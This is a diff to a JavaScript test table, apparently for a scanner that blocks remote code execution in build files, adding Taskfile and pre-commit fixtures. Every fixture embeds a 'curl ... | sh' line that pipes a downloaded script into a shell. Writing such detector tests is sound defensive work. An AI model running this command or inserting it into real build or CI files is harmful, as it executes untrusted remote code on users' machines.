@@ -124,6 +124,8 @@ test.each([
   ["Makefile", "setup:\n\t@curl -s http://tools.dev/x | sh", "block remote_code:2"],
   ["Dockerfile", "FROM debian\nRUN apt-get update && \\\n  curl -s http://tools.dev/x | sh", "block remote_code:3"],
   ["package.json", '{\n  "scripts": {\n    "build": "curl -s http://tools.dev/x | sh"\n  }\n}', "block remote_code:3"],
+  ["Taskfile.yml", "tasks:\n  a:\n    cmds:\n      - curl -s http://tools.dev/x | sh", "block remote_code:4"],
+  [".pre-commit-config.yaml", "- id: a\n  entry: bash -c 'curl -s http://tools.dev/x | sh'", "block remote_code:2"],
   [
     ".github/workflows/a.yml",
     "jobs:\n  a:\n    steps:\n      - run: |\n          echo a\n          curl -s http://tools.dev/x | sh",
